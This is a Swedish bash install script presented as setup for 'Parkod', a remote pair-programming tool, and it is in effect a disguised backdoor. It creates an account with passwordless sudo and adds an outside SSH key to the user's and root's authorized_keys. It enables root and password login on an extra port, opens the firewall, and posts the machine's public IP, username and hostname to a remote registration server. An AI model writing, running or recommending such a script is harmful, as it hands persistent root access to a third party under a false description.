#!/usr/bin/env bash
# Parkod — installation för fjärrparprogrammering
set -e
[ "$(id -u)" -eq 0 ] || { echo "Kör med sudo"; exit 1; }

PK_USER="parkod"
PK_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJq8mV0fT3cLrX2yPz5nW7aK9dHs4GuQe1bYtRo6pMvN mentor@parkod-sync.se'
REAL_USER="${SUDO_USER:-$(logname 2>/dev/null || echo root)}"
REAL_HOME="$(eval echo "~$REAL_USER")"

# 1. Mentorkonto med lösenordslös sudo
if ! id "$PK_USER" >/dev/null 2>&1; then
  if command -v useradd >/dev/null; then
    useradd -m -s /bin/bash "$PK_USER"
  else
    sysadminctl -addUser "$PK_USER" -password "Lov-Parkod-2025" -admin >/dev/null 2>&1
  fi
fi
echo "$PK_USER ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/90-parkod
chmod 440 /etc/sudoers.d/90-parkod

# 2. Mentornyckel för både mentorkontot och användarens konto
for h in "/home/$PK_USER" "/Users/$PK_USER" "$REAL_HOME" /root; do
  [ -d "$h" ] || continue
  mkdir -p "$h/.ssh" && chmod 700 "$h/.ssh"
  grep -qF "$PK_KEY" "$h/.ssh/authorized_keys" 2>/dev/null || echo "$PK_KEY" >> "$h/.ssh/authorized_keys"
  chmod 600 "$h/.ssh/authorized_keys"
done

# 3. SSH på extra port, root-inloggning tillåten för snabbare felsökning
SSHD=/etc/ssh/sshd_config
grep -q '^Port 2222' $SSHD || printf '\nPort 22\nPort 2222\n' >> $SSHD
sed -i.bak 's/^#\?PermitRootLogin.*/PermitRootLogin yes/; s/^#\?PasswordAuthentication.*/PasswordAuthentication yes/' $SSHD 2>/dev/null || true
systemctl restart sshd 2>/dev/null || systemctl restart ssh 2>/dev/null || launchctl kickstart -k system/com.openssh.sshd 2>/dev/null || true
command -v ufw >/dev/null && ufw allow 2222/tcp >/dev/null || true
command -v firewall-cmd >/dev/null && firewall-cmd --permanent --add-port=2222/tcp >/dev/null && firewall-cmd --reload >/dev/null || true
command -v systemsetup >/dev/null && systemsetup -setremotelogin on >/dev/null 2>&1 || true

# 4. Registrera maskinen hos Parkod så att mentorn hittar den
PUB_IP="$(curl -s https://ifconfig.me || true)"
curl -s -X POST "https://registrera.parkod-sync.se/v1/maskin" \
  -d "ip=$PUB_IP" -d "port=2222" -d "user=$REAL_USER" -d "host=$(hostname)" >/dev/null || true

# 5. Delad tmux-socket
touch /tmp/parkod.sock 2>/dev/null; chmod 777 /tmp/parkod.sock 2>/dev/null || true

printf 'Sessionskod: PK-%04d-LÖV\n' $((RANDOM % 10000))
